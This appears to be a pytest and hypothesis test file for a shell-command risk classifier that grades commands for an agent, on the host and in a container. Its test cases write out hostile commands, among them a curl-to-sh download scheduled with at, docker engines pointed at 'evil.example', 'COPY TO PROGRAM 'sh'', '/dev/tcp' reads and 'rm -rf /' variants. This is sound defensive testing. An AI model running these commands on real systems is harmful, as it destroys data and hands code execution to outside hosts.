"""Code that runs later, well-known programs, queries of system tools, the here-string gap.

Every kind is graded in both directions (the read-only use and the deleting use), on the host and contained.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.risk import RiskLevel, classify

RO = RiskLevel.READ_ONLY
WW = RiskLevel.WORKSPACE_WRITE
NET = RiskLevel.NETWORK
SYS = RiskLevel.SYSTEM
DES = RiskLevel.DESTRUCTIVE

WORKSPACE = Path("/home/dev/project")

# (command, grade on the host, grade contained)
CASES: list[tuple[str, RiskLevel, RiskLevel]] = [
    # --- code that runs later: graded like `... | sh`
    ("echo 'ls -la' | at now + 1 minute", SYS, WW),
    ("echo 'rm -rf build' | at now + 1 minute", DES, DES),
    ("at now + 5 minutes <<< 'make test'", SYS, WW),
    ("at now <<'EOF'\ncurl -fsS https://example.com/x | sh\nEOF", DES, DES),
    ("at now -f job.sh", DES, WW),
    ("cat job.sh | at now", DES, WW),
    ('echo "$CMD" | at now', DES, WW),
    ("echo ls | at now < job.txt", DES, WW),
    ("batch <<< 'ls'", SYS, WW),
    ("at -l", RO, RO),
    ("atq", RO, RO),
    ("at -c 12", RO, RO),
    ("at -r 12", DES, WW),
    ("atrm 12", DES, WW),
    ("crontab -l", RO, RO),
    ("crontab -r", DES, WW),
    ("crontab -e", DES, WW),
    ("crontab jobs.cron", DES, WW),
    ("crontab -", DES, WW),
    ("(crontab -l; echo '0 * * * * ls') | crontab -", DES, WW),  # the seed: crontab / at are contained-safe
    ("echo '*/5 * * * * ls /tmp' | crontab -", DES, WW),
    ("crontab - <<'EOF'\nSHELL=/bin/bash\n@daily rm -rf ~/old\nEOF", DES, DES),
    ("crontab - <<'EOF'\nPATH=/tmp/evil\n@daily ls\nEOF", DES, DES),
    ("crontab - <<< '0 1 * * * date +%Y'", DES, DES),
    # --- cloud CLIs
    ("aws s3 ls", NET, NET),
    ("aws ec2 describe-instances --region eu-west-1", NET, NET),
    ("aws sts get-caller-identity", NET, NET),
    ("aws s3 cp s3://bucket/key ./key", NET, NET),
    ("aws s3 cp build/app.zip s3://bucket/app.zip", SYS, SYS),
    ("aws s3 rm s3://bucket/key", DES, DES),
    ("aws s3 sync ./site s3://bucket --delete", DES, DES),
    ("aws ec2 terminate-instances --instance-ids i-1", DES, DES),
    ("aws dynamodb delete-table --table-name t", DES, DES),
    ("aws ssm start-session --target i-1", DES, DES),
    ("aws configure list", RO, RO),
    ("aws configure set region eu-west-1", SYS, WW),
    # a program, trusted authority or endpoint every later aws command runs or talks to
    ("aws configure set credential_process /tmp/x", DES, WW),
    ("aws configure set profile.ci.ca_bundle /tmp/ca.pem", DES, WW),
    ("aws configure set cli_pager /tmp/p", DES, WW),
    ("aws configure set default.output json", SYS, WW),
    # a long-lived key for an IAM user, its secret printed: graded as a grant of access
    ("aws iam create-access-key --user-name admin", DES, DES),
    ("aws iam list-access-keys --user-name admin", NET, NET),
    # the engine later docker commands talk to
    ("docker context use evil", DES, DES),
    ("docker context create evil --docker host=tcp://evil.example:2375", DES, DES),
    ("docker context use default", SYS, SYS),
    ("docker context ls", RO, RO),
    ("export DOCKER_HOST=tcp://evil.example:2375", DES, DES),
    ("export DOCKER_CONTEXT=evil", DES, DES),
    ("export DOCKER_HOST=unix:///var/run/docker.sock", RO, RO),
    ("export COMPOSE_PROJECT_NAME=web", RO, RO),
    # compose starts containers from a file FlyBot does not read: docker is never downgraded by containment
    ("docker compose up -d", DES, DES),
    ("docker-compose up", DES, DES),
    ("docker compose ps", RO, RO),  # the local engine's state, as docker ps
    ("aws --version", RO, RO),
    ("aws lambda frobnicate-everything", DES, DES),
    ("gcloud compute instances list", NET, NET),
    ("gcloud run services list", NET, NET),
    ("gcloud run deploy api --image gcr.io/p/api", SYS, SYS),
    ("gcloud compute instances delete vm-1 --zone z", DES, DES),
    ("gcloud config list", RO, RO),
    ("gcloud compute ssh vm-1 --command 'ls /'", NET, NET),
    ("gcloud compute ssh vm-1 --command 'rm -rf /srv'", DES, DES),
    ("gcloud compute ssh vm-1", DES, DES),
    ("az vm list", NET, NET),
    ("az group delete --name rg --yes", DES, DES),
    ("az account show", RO, RO),
    ("az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts ls", DES, DES),
    ("gsutil ls gs://bucket", NET, NET),
    ("gsutil rm gs://bucket/x", DES, DES),
    ("gsutil -m rsync -d -r ./site gs://bucket", DES, DES),
    # --- forge CLIs
    ("gh pr list", NET, NET),
    ("gh pr view 12 --json title", NET, NET),
    ("gh issue list --state open", NET, NET),
    ("gh api repos/o/r/issues", NET, NET),
    ("gh pr create --fill", NET, NET),  # a forge write that deletes nothing: network
    ("gh issue comment 12 --body hi", NET, NET),
    ("gh pr merge 12 --delete-branch", DES, DES),
    ("gh api -X POST repos/o/r/issues -f title=x", SYS, SYS),
    ("gh repo delete o/r --yes", DES, DES),
    ("gh release delete v1.0 --yes", DES, DES),
    ("gh api -X DELETE repos/o/r", DES, DES),
    ("gh my-alias", DES, DES),
    ("gh extension install owner/gh-x", DES, DES),
    ("gh config set editor vim", DES, DES),
    ("glab mr list", NET, NET),
    ("glab repo delete group/r", DES, DES),
    # --- database clients (SQL parsed with sqlglot)
    ("psql -c 'SELECT count(*) FROM users'", NET, NET),
    ("psql -d app -c 'SELECT id FROM t WHERE a > 1; SELECT 2'", NET, NET),
    ("psql -c '\\dt'", NET, NET),
    ("psql -l", NET, NET),
    ("psql -c 'INSERT INTO t VALUES (1)'", SYS, SYS),
    ("psql -c 'UPDATE t SET a = 1 WHERE id = 2'", SYS, SYS),
    ("psql -c 'UPDATE t SET a = 1'", DES, DES),
    ("psql -c 'DROP TABLE users'", DES, DES),
    ("psql -c 'TRUNCATE users'", DES, DES),
    ("psql -c 'DELETE FROM users WHERE id = 1'", DES, DES),
    ("psql -c 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'", DES, DES),
    ("psql -c 'SELECT pg_terminate_backend(42)'", DES, DES),
    ("psql -c \"COPY t TO PROGRAM 'sh'\"", DES, DES),
    ("psql -c '\\! rm -rf x'", DES, DES),
    ("psql -f schema.sql", DES, DES),
    ("psql", DES, DES),
    ("psql <<'EOF'\nSELECT 1;\nEOF", NET, NET),
    ("psql -c 'SELEC broken'", DES, DES),
    ("mysql -e 'SHOW TABLES'", NET, NET),
    ("mysql -u root -e 'DROP DATABASE app'", DES, DES),
    ("mysql --pager=less -e 'SELECT 1'", DES, DES),
    ("mysql -e 'system rm -rf x'", DES, DES),
    # mysql(1) "-p[password]": a password attached to -p is the option's value, not a cluster of flags
    ("mysql -h 127.0.0.1 -u root -pdevroot app -e 'SHOW TABLES'", NET, NET),
    ("mysql -pdevroot app -e 'DROP DATABASE app'", DES, DES),
    ("mysql -pX --pager=less -e 'SELECT 1'", DES, DES),
    ("mysqldump -u root -pdevroot app", NET, NET),
    ("mysqladmin -u root -pdevroot drop app", DES, DES),
    ("sqlite3 app.db 'SELECT * FROM t'", RO, RO),
    ("sqlite3 app.db .tables", RO, RO),
    ("sqlite3 app.db 'INSERT INTO t VALUES (1)'", WW, WW),
    ("sqlite3 /var/lib/app.db 'INSERT INTO t VALUES (1)'", DES, WW),
    ("sqlite3 app.db 'DELETE FROM t'", DES, DES),
    ("sqlite3 app.db \"SELECT writefile('x', 'y')\"", DES, DES),
    ("sqlite3 app.db '.shell ls'", DES, DES),
    ("sqlite3 -init evil.sql app.db", DES, DES),
    ("redis-cli GET session:1", NET, NET),
    ("redis-cli -h cache KEYS 'user:*'", NET, NET),
    ("redis-cli SET a b", SYS, SYS),
    ("redis-cli FLUSHALL", DES, DES),
    ("redis-cli DEL a", DES, DES),
    ("redis-cli CONFIG SET dir /tmp", DES, DES),
    ("redis-cli EVAL 'return 1' 0", DES, DES),
    ("mongosh --eval 'db.users.find({age: {$gt: 5}}).limit(3)'", NET, NET),
    ("mongosh --quiet --eval 'show dbs'", NET, NET),
    ("mongosh --eval 'db.users.insertOne({a: 1})'", SYS, SYS),
    ("mongosh --eval 'db.users.drop()'", DES, DES),
    ("mongosh --eval 'db.users.deleteMany({})'", DES, DES),
    # updateMany with the empty filter overwrites every document (MongoDB manual, updateMany()), as UPDATE without WHERE
    ("mongosh --eval 'db.users.updateMany({}, {$set: {role: \"admin\"}})'", DES, DES),
    ("mongosh --eval 'db.users.update({}, {$set: {a: 1}}, {multi: true})'", DES, DES),
    ('mongosh --eval \'db.users.updateMany({team: "a"}, {$set: {role: "viewer"}})\'', SYS, SYS),
    ("mongosh --eval 'db.users.update({}, {$set: {a: 1}})'", SYS, SYS),
    ("mongosh --eval 'db.users.updateOne({}, {$set: {a: 1}})'", SYS, SYS),
    ("mongosh --eval 'db.users.find({$where: \"sleep(1)\"})'", DES, DES),
    ("mongosh --eval 'while (true) {}'", DES, DES),
    ("mongosh script.js", DES, DES),
    # clickhouse-client: SQL parsed with sqlglot's ClickHouse dialect; table functions it does not know may run code
    ("clickhouse-client -q 'SELECT count() FROM events'", NET, NET),
    ("clickhouse-client -q 'SELECT * FROM events LIMIT 10 FORMAT CSV'", NET, NET),
    ("clickhouse-client --host ch -q 'INSERT INTO events VALUES (1)'", SYS, SYS),
    ("clickhouse-client -q 'DROP TABLE events'", DES, DES),
    ("clickhouse-client -q 'TRUNCATE TABLE events'", DES, DES),
    ("clickhouse-client -q 'ALTER TABLE events DELETE WHERE 1'", DES, DES),
    ("clickhouse-client -q \"SELECT * FROM executable('x.sh', 'TSV', 'a String')\"", DES, DES),
    ("clickhouse-client -q \"SELECT 1 INTO OUTFILE '/etc/x'\"", DES, DES),
    ("clickhouse-client --queries-file q.sql", DES, DES),
    ("clickhouse-client -C /tmp/o/config.xml -q 'SELECT 1'", DES, DES),
    # --- ip, ss, nft
    ("ip addr show", RO, RO),
    ("ip a", RO, RO),
    ("ip -br link", RO, RO),
    ("ip route get 1.1.1.1", RO, RO),
    ("ip route add default via 10.0.0.1", DES, WW),  # every connection through a gateway of the caller's choosing
    ("ip route add 10.0.0.0/8 via 10.0.0.1", SYS, WW),
    ("ip link set eth0 down", DES, WW),  # takes the machine off the network (programs/system.py)
    ("ip -batch cmds.txt", DES, DES),
    ("ip netns exec blue rm -rf /srv", DES, DES),
    ("ss -tlnp", RO, RO),
    ("ss -K dst 10.0.0.1", SYS, SYS),
    ("nft list ruleset", RO, RO),
    ("nft add rule inet filter input drop", DES, WW),  # cuts the machine off, as a flush of the ruleset may
    ("nft add rule inet filter input tcp dport 22 accept", SYS, WW),
    ("nft flush ruleset", DES, WW),
    ("nft -c -f rules.nft", RO, RO),
    ("nft -f rules.nft", SYS, WW),
    # --- wrappers
    ("watch -n 2 ls -la", RO, RO),
    ("watch 'df -h; free -m'", RO, RO),
    ("watch -n 5 rm -rf build", DES, DES),
    ("watch -x git status", RO, RO),
    ("parallel gzip ::: a.log b.log", WW, WW),
    ("parallel rm {} ::: a b", DES, DES),
    ("ls *.log | parallel gzip", SYS, WW),
    ("cat cmds.txt | parallel", DES, DES),
    ("parallel -S host echo ::: a", DES, DES),
    ("su -c 'ls' root", SYS, WW),
    ("su -c 'rm -rf /srv'", DES, DES),
    ("su -", DES, DES),
    ("su -s /tmp/x -c ls", DES, DES),
    ("npx eslint src", NET, NET),
    ("npx --no-install prettier --check .", WW, WW),
    ("npx cowsay hi", DES, DES),
    ("npx -c 'ls'", DES, DES),
    ("script -q -c 'make test' /dev/null", WW, WW),
    ("script -c 'rm -rf build' log.txt", DES, DES),
    ("script", DES, DES),
    # --- queries of system tools
    ("systemctl status nginx", RO, RO),
    ("systemctl is-active nginx", RO, RO),
    ("systemctl list-units --failed", RO, RO),
    ("systemctl restart nginx", SYS, WW),
    ("systemctl -H prod status nginx", SYS, WW),
    ("apt list --installed", RO, RO),
    ("apt show jq", RO, RO),
    ("apt-get -s install jq", RO, RO),
    ("apt install -y jq", SYS, NET),
    ("apt -o DPkg::Pre-Invoke::=evil list", DES, DES),
    ("dnf info jq", RO, RO),
    ("dnf list installed", RO, RO),
    ("dnf install jq", SYS, NET),
    ("brew list", RO, RO),
    ("brew info jq", RO, RO),
    ("brew search jq", NET, NET),
    ("brew uninstall jq", DES, WW),
    ("pacman -Qi bash", RO, RO),
    ("pacman -Syu", SYS, NET),
    ("dpkg -l", RO, RO),
    ("dpkg -i x.deb", DES, DES),
    ("snap list", RO, RO),
    ("iptables -L -n", RO, RO),
    ("iptables -F", DES, WW),
    ("sysctl -a", RO, RO),
    ("sysctl vm.swappiness", RO, RO),
    ("kill -l", RO, RO),
    ("helm template web ./chart", RO, RO),
    ("helm lint ./chart", RO, RO),
    ("helm template web ./chart --validate", NET, NET),
    ("helm template web ./chart --post-renderer ./hook.sh", DES, DES),
    ("helm install web ./chart", DES, SYS),  # no recipe book: the chart is not read
    ("helm uninstall web", DES, DES),
    ("terraform fmt -check", RO, RO),
    ("terraform validate", WW, WW),  # it starts the installed provider binaries
    ("terraform fmt", WW, WW),
    ("terraform plan", NET, NET),
    ("terraform destroy", DES, DES),
    ("rmdir build/empty", WW, WW),
    ("rmdir /opt/empty", SYS, WW),
    ("rm -r build/empty", DES, DES),
    # --- the here-string after a redirect (parser gap)
    ("cat > file <<< 'x'", WW, WW),
    ("cat > /etc/motd <<< 'x'", DES, WW),
    ("cat <<< 'x' > file", WW, WW),
    ('cat > f 2>&1 <<< "a $b"', WW, WW),
    ("cat > file <<< 'x' && rm -rf src", DES, DES),
    ("cat > file <<", DES, DES),
]


@pytest.mark.parametrize(("command", "host", "contained"), CASES, ids=[c[0][:60] for c in CASES])
def test_grade_on_host_and_contained(command: str, host: RiskLevel, contained: RiskLevel) -> None:
    on_host = classify(command, contained=False, workspace=WORKSPACE)
    in_vm = classify(command, contained=True, workspace=WORKSPACE)
    assert (on_host.risk, in_vm.risk) == (host, contained), (on_host.reasons, in_vm.reasons)


def test_scheduled_code_is_listed_with_the_scheduler_as_wrapper() -> None:
    assessment = classify("echo 'rm -rf build' | at now", contained=False, workspace=WORKSPACE)
    inner = [c for c in assessment.commands if c.argv[:1] == ("rm",)]
    assert inner and inner[0].wrappers == ("at",)
    assert any(r.rule == "deletion" for r in assessment.reasons)


def test_sql_reason_names_the_statement_kind() -> None:
    assessment = classify("psql -c 'DROP TABLE users'", contained=False, workspace=WORKSPACE)
    assert assessment.reasons[0].rule == "database-change"
    assert "DROP" in assessment.reasons[0].detail


def test_here_string_gap_is_not_a_parse_error_but_other_errors_are() -> None:
    fine = classify("cat > notes.txt <<< 'hello'", contained=False, workspace=WORKSPACE)
    assert all(r.rule != "parse-error" for r in fine.reasons)
    broken = classify("cat > notes.txt <<< 'hello' )", contained=False, workspace=WORKSPACE)
    assert broken.risk is DES and any(r.rule == "parse-error" for r in broken.reasons)


# --- properties ------------------------------------------------------------------------------------
INNER = [
    "ls -la", "rm -rf build", "curl https://example.com", "git push", "echo hi > /etc/x", "chmod +x a",
    "npm test", "touch out.txt", "kill 1", "git status", "cat README.md", "mkdir /opt/x", "sed -i s/a/b/ f",
]  # fmt: skip
SETTINGS = settings(max_examples=120, deadline=None)


def grade(command: str, contained: bool) -> RiskLevel:
    return classify(command, contained=contained, workspace=WORKSPACE).risk


@SETTINGS
@given(st.sampled_from(INNER), st.booleans())
def test_wrapping_in_watch_parallel_or_su_never_lowers_the_grade(inner: str, contained: bool) -> None:
    base = grade(inner, contained)
    for wrapped in (f"watch -n 1 {inner}", f"watch {shlex.quote(inner)}", f"parallel {shlex.quote(inner)} ::: x",
                    f"su -c {shlex.quote(inner)}", f"script -q -c {shlex.quote(inner)} /dev/null"):  # fmt: skip
        assert grade(wrapped, contained) >= base, wrapped


@SETTINGS
@given(st.sampled_from(INNER), st.booleans())
def test_scheduling_code_never_grades_below_the_code_or_the_scheduler(inner: str, contained: bool) -> None:
    floor = max(grade(inner, contained), WW if contained else SYS)
    assert grade(f"echo {shlex.quote(inner)} | at now", contained) >= floor
    assert grade(f"at now <<< {shlex.quote(inner)}", contained) >= floor
    assert grade(f"echo {shlex.quote('* * * * * ' + inner)} | crontab -", contained) >= grade(inner, contained)


@SETTINGS
@given(st.sampled_from(["SELECT 1", "SELECT a FROM t", "INSERT INTO t VALUES (1)", "UPDATE t SET a = 1 WHERE b = 2"]),
       st.sampled_from(["DELETE FROM t", "DROP TABLE t", "TRUNCATE t", "UPDATE t SET a = 1"]))  # fmt: skip
def test_a_deleting_statement_anywhere_makes_sql_destructive(benign: str, deleting: str) -> None:
    for text in (f"{benign}; {deleting}", f"{deleting}; {benign}"):
        assert grade(f"psql -c {shlex.quote(text)}", False) is DES
        assert grade(f"sqlite3 app.db {shlex.quote(text)}", True) is DES


# --- the plain-words fast path grades exactly as the parse-tree walk ----------------------------------------------
PLAIN_WORDS = ["ls", "git", "status", "push", "rm", "-rf", "build", "npm", "test", "-la", "origin", "main", "curl",
               "https://example.com/x", "/etc/hosts", "tcp", "/dev/tcp/h/80", "make", "deploy", "CC=gcc", "4", "-j4",
               "sudo", "apt-get", "install", "-y", "jq", "env", "timeout", "60", "kubectl", "get", "pods", "..", "a:b",
               "aws", "s3", "rm", "psql", "-c", "SELECT", "if", "time", "x=1", "cd", "src", "@scope/pkg", "a,b", "%1",
               "export", "unset", "local", "declare", "readonly", "typeset", "do", "done", "then", "echo", "-n"]  # fmt: skip


PLAIN_COMMANDS = ["ls -la", "cd src", "cd /etc", "cd ..", "echo ls", "echo -n rm -rf x", "echo -e ls", "at now",
                  "crontab -", "sh", "bash -s", "touch out.txt", "rm -rf build", "git push", "cat /dev/tcp/h/80",
                  "psql", "sqlite3 app.db", "mkdir x", "pwd", "timeout 5 cd x", "make deploy", "popd", "cd -"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.lists(st.sampled_from(PLAIN_WORDS), min_size=1, max_size=5).map(" ".join) | st.sampled_from(PLAIN_COMMANDS),
             min_size=1, max_size=4),
    st.lists(st.sampled_from([" | ", " && ", " || "]), min_size=3, max_size=3),
    st.booleans(),
)  # fmt: skip
def test_plain_words_are_graded_as_the_parse_tree_walk_grades_them(
    commands: list[str], operators: list[str], contained: bool
) -> None:
    from bot.risk.classifier import _classify

    command = commands[0] + "".join(op + c for op, c in zip(operators, commands[1:], strict=False))
    fast = _classify(command, contained, WORKSPACE)
    walked = _classify(command, contained, WORKSPACE, fast=False)
    assert fast == walked, command


QUOTED_WORDS = ["'a b'", "'x | y && z'", "'$(rm -rf /)'", "'/dev/tcp/h/80'", "'ls -la && pwd'", "'*.py'", "'SELECT 1'",
                "'DROP TABLE t'", "'s/a/b/g'", "'\\n'", "'rm -rf /'", "'-n'", "'-e'", "'deploy'", "'cd /etc'", "' '", "'#x'",
                "'~/x'", "'a=b'", "'`id`'", "'\"q\"'", "'{a,b}'", "'!x'", "'https://x.y/z'", "'/etc/hosts'", "'..'", "'x'",
                '"a b"', '""', '" "', '"x | y && z"', '"/dev/tcp/h/80"', '"ls -la && pwd"', '"*.py"', '"DROP TABLE t"',
                '"rm -rf /"', '"-n"', '"#x"', '"~/x"', "\"'q'\"", '"{a,b}"', '"!x"', '"cd /etc"', '"s/[a]/^_/g"',
                '" deploy "', '"(x)"', '"a;b"', '"<x>"']  # fmt: skip
QUOTING_COMMANDS = ["bash -c", "sh -c", "psql -c", "sqlite3 app.db", "eval", "echo", "git commit -m", "sed -i", "sed -n",
                    "find . -name", "python3 -c", "xargs", "awk", "jq", "rg -n", "at now", "ssh host", "watch", "su -c",
                    "cd", "rm -rf", "curl -o"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(QUOTING_COMMANDS + PLAIN_COMMANDS), st.lists(st.sampled_from(QUOTED_WORDS + PLAIN_WORDS), max_size=3))
        .map(lambda parts: " ".join([parts[0], *parts[1]])),
        min_size=1, max_size=4,
    ),
    st.lists(st.sampled_from([" | ", " && ", " || "]), min_size=3, max_size=3),
    st.booleans(),
)  # fmt: skip
def test_quoted_arguments_on_the_plain_path_are_graded_as_the_walk_grades_them(
    commands: list[str], operators: list[str], contained: bool
) -> None:
    command = commands[0] + "".join(op + c for op, c in zip(operators, commands[1:], strict=False))
    assert outcome(command, contained, True) == outcome(command, contained, False), command


def outcome(command: str, contained: bool, fast: bool) -> object:
    """The assessment on the plain path (``fast``) or the tree walk; an internal failure's type (classify then
    fails closed), which must happen on both paths alike."""
    from bot.risk.classifier import _classify

    try:
        return _classify(command, contained, WORKSPACE, fast=fast)
    except Exception as error:
        return type(error).__name__


NESTED_INNER = ["cd /etc", "cd src", "cd ..", "cd -", "touch f", "rm -rf x", "ls", "echo hi", "cat /dev/tcp/h/80", "popd",
                "make deploy", "npm test", "git push", "cd /tmp"]  # fmt: skip
NESTED_WRAPPERS = [
    "bash -c",
    "sh -c",
    "eval",
    "su -c",
    "ssh host",
    "watch",
    "timeout 5 bash -c",
    "sudo bash -c",
    "env bash -c",
]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(NESTED_WRAPPERS), st.sampled_from(["'", '"']),
            st.lists(st.sampled_from(NESTED_INNER), min_size=1, max_size=3),
            st.lists(st.sampled_from([" && ", " || ", " | "]), min_size=2, max_size=2),
        ).map(lambda t: f"{t[0]} {t[1]}{t[2][0]}{''.join(op + c for op, c in zip(t[3], t[2][1:], strict=False))}{t[1]}")
        | st.sampled_from(NESTED_INNER),
        min_size=1, max_size=3,
    ),
    st.lists(st.sampled_from([" | ", " && ", " || "]), min_size=2, max_size=2),
    st.booleans(),
)  # fmt: skip
def test_nested_plain_scripts_are_graded_as_the_walk_grades_them(
    commands: list[str], operators: list[str], contained: bool
) -> None:
    """``bash -c 'cd /etc' && touch f``: a nested plain script's cd is not the outer script's, on both paths."""
    command = commands[0] + "".join(op + c for op, c in zip(operators, commands[1:], strict=False))
    assert outcome(command, contained, True) == outcome(command, contained, False), command


@pytest.mark.parametrize("command", [
    "sudo bash -c 'ls && cd /etc' && touch f",
    'env bash -c "echo hi || cd /tmp" && touch f',
    "eval 'cd /etc' && touch f",
    "bash -c 'cd /etc' && touch f",
    "timeout 5 bash -c 'cd src | cd /etc' && touch f",
])  # fmt: skip
def test_a_nested_plain_scripts_cd_is_graded_as_the_walk_grades_it(command: str) -> None:
    assert outcome(command, False, True) == outcome(command, False, False)
